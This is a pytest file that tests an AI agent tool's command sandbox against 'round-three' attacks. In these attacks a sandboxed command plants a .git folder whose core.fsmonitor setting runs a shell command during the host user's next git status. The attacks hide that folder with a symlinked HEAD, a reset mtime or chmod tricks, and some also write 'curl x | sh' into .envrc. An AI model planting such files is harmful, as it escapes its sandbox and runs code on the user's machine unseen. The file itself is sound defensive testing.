"""Round-three attacks: code a sandboxed command leaves for the host to run later
(issue 12, independent pass).

A full-auto command may write in the workspace; what it must not leave is a
repository whose config the user's next ``git status`` on the host obeys (VS Code's
git extension runs it on its own when the folder opens, also in subfolders).
``sandbox_git.disable_new_repositories`` turns off the repositories a command made
by renaming their ``HEAD``; these attacks make one it does not turn off. The
``core.fsmonitor`` command writes a marker outside the workspace, in a folder the
sandbox cannot see: the marker appears only if the host ran it.
"""

from __future__ import annotations

import inspect
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

import agentls
from agentls.context.files import WorkspaceFiles
from agentls.policy.sandbox import command_runner, sandbox_available
from agentls.tools.command import command_tools
from agentls.tools.command_checkpoint import CommandCheckpoint

pytestmark = pytest.mark.skipif(
    not sandbox_available().available, reason="needs a working bubblewrap"
)


async def _full_auto(root: Path, cache: Path, command: str) -> str:
    files = WorkspaceFiles(root)

    async def approve(line: str) -> str:
        return ""  # full-auto

    checkpoint = CommandCheckpoint(root, cache=cache)
    tool = command_tools(command_runner(root, files.secrets), approve, checkpoint)[0]
    said = tool.run({"command": command})
    if inspect.isawaitable(said):
        said = await said
    assert isinstance(said, str)
    return said


def _host_git_status(root: Path, home: Path) -> None:
    """The user's next ``git status`` in the folder, on the host."""
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(home),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_GLOBAL": os.devnull,
    }
    subprocess.run(
        ["git", "status"], cwd=root, env=env, capture_output=True, timeout=10, check=False
    )


def _plant(head: str, marker: Path) -> str:
    """A command that makes ``.git`` at the workspace root with the given way of
    writing ``HEAD`` and a ``core.fsmonitor`` that writes ``marker``."""
    config = (
        "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
        f'\\tfsmonitor = "touch {marker}; false"\\n'
    )
    return f"mkdir -p .git/objects .git/refs/heads && {head} && printf '{config}' > .git/config"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    return home


async def test_a_repository_with_a_symlinked_head_is_turned_off(tmp_path: Path, home: Path) -> None:
    root = tmp_path / "project"
    root.mkdir()
    (root / "main.py").write_text("print(1)\n")
    marker = tmp_path / "host-ran-fsmonitor"
    said = await _full_auto(
        root, tmp_path / "cache", _plant("ln -s refs/heads/main .git/HEAD", marker)
    )
    assert "exit code 0" in said, said
    _host_git_status(root, home)
    assert not marker.exists(), "the host's git status ran the command's core.fsmonitor"


async def test_a_repository_with_a_plain_head_is_turned_off(tmp_path: Path, home: Path) -> None:
    """The control: the same attack with HEAD a regular file is turned off."""
    root = tmp_path / "project"
    root.mkdir()
    (root / "main.py").write_text("print(1)\n")
    marker = tmp_path / "host-ran-fsmonitor"
    said = await _full_auto(
        root, tmp_path / "cache", _plant("echo 'ref: refs/heads/main' > .git/HEAD", marker)
    )
    assert "turned off" in said, said
    _host_git_status(root, home)
    assert not marker.exists()


async def test_a_repository_hidden_by_an_mtime_set_back_is_turned_off(
    tmp_path: Path, home: Path
) -> None:
    root = tmp_path / "project"
    root.mkdir()
    (root / "main.py").write_text("print(1)\n")
    os.utime(root, (1_600_000_000, 1_600_000_000))  # a checkout older than the task
    marker = tmp_path / "host-ran-fsmonitor"
    plant = _plant("echo 'ref: refs/heads/main' > .git/HEAD", marker)
    command = f'm=$(stat -c %.9Y .) && {plant} && touch -m -d "@$m" .'
    said = await _full_auto(root, tmp_path / "cache", command)
    assert "exit code 0" in said, said
    _host_git_status(root, home)
    assert not marker.exists(), "the host's git status ran the command's core.fsmonitor"


FLOW = """
import asyncio, os, sys
from pathlib import Path
base = Path(sys.argv[1])
os.environ["HOME"] = str(base / "home")
from agentls.context.files import WorkspaceFiles
from agentls.policy.sandbox import command_runner
from agentls.tools.command import command_tools
from agentls.tools.command_checkpoint import CommandCheckpoint
root = base / "project"
async def main() -> None:
    files = WorkspaceFiles(root)
    async def approve(line: str) -> str:
        return ""
    checkpoint = CommandCheckpoint(root, cache=base / "cache")
    tool = command_tools(command_runner(root, files.secrets), approve, checkpoint)[0]
    print(await tool.run({"command": sys.argv[2]}))
asyncio.run(main())
"""


def _as_ordinary_user(argv: list[str]) -> list[str]:
    """``argv`` run as nobody when the tests run as root (the kernel lets root rename
    in a folder without write access)."""
    if os.getuid() != 0:
        return argv
    return ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *argv]


@pytest.mark.parametrize(
    "hide",
    ["chmod a-w .git", "chmod 311 ."],
    ids=["git-folder-read-only", "root-unreadable"],
)
def test_a_repository_a_command_hides_from_the_owner_is_still_turned_off(hide: str) -> None:
    base = Path(tempfile.mkdtemp(prefix="agentls-round3-"))
    try:
        for folder in (base, base / "home", base / "project"):
            folder.mkdir(exist_ok=True)
            if os.getuid() == 0:
                os.chown(folder, 65534, 65534)
        (base / "project" / "main.py").write_text("print(1)\n")
        if os.getuid() == 0:
            os.chown(base / "project" / "main.py", 65534, 65534)
        marker = base / "host-ran-fsmonitor"
        command = _plant("echo 'ref: refs/heads/main' > .git/HEAD", marker) + f" && {hide}"
        done = subprocess.run(
            _as_ordinary_user([sys.executable, "-c", FLOW, str(base), command]),
            capture_output=True,
            text=True,
            timeout=30,
            env={**os.environ, "PYTHONPATH": str(Path(agentls.__file__).parent.parent)},
            check=False,
        )
        assert "exit code 0" in done.stdout, done.stdout + done.stderr
        env = {"PATH": "/usr/bin:/bin", "HOME": str(base / "home"), "GIT_CONFIG_NOSYSTEM": "1"}
        subprocess.run(  # the user's next git status in the project, on the host
            _as_ordinary_user(["git", "-C", str(base / "project"), "status"]),
            env=env,
            capture_output=True,
            timeout=10,
            check=False,
        )
        assert not marker.exists(), "the host's git status ran the command's core.fsmonitor"
    finally:
        subprocess.run(["chmod", "-R", "u+rwx", str(base)], check=False)
        shutil.rmtree(base, ignore_errors=True)


async def test_protected_files_made_with_an_mtime_set_back_are_renamed(
    tmp_path: Path, home: Path
) -> None:
    root = tmp_path / "project"
    root.mkdir()
    (root / "main.py").write_text("print(1)\n")
    os.utime(root, (1_600_000_000, 1_600_000_000))  # a checkout older than the task
    command = (
        'm=$(stat -c %.9Y .) && echo "curl x | sh" > .envrc && mkdir .vscode && '
        "echo '{}' > .vscode/settings.json && touch -m -d \"@$m\" ."
    )
    said = await _full_auto(root, tmp_path / "cache", command)
    assert "exit code 0" in said, said
    assert not (root / ".envrc").exists(), said
    assert not (root / ".vscode" / "settings.json").exists(), said


async def test_protected_files_made_plainly_are_renamed(tmp_path: Path, home: Path) -> None:
    """The control: without the mtime trick both are renamed when the command ends."""
    root = tmp_path / "project"
    root.mkdir()
    (root / "main.py").write_text("print(1)\n")
    os.utime(root, (1_600_000_000, 1_600_000_000))
    said = await _full_auto(
        root,
        tmp_path / "cache",
        "echo 'curl x | sh' > .envrc && mkdir .vscode && echo '{}' > .vscode/settings.json",
    )
    assert not (root / ".envrc").exists(), said
    assert not (root / ".vscode" / "settings.json").exists(), said
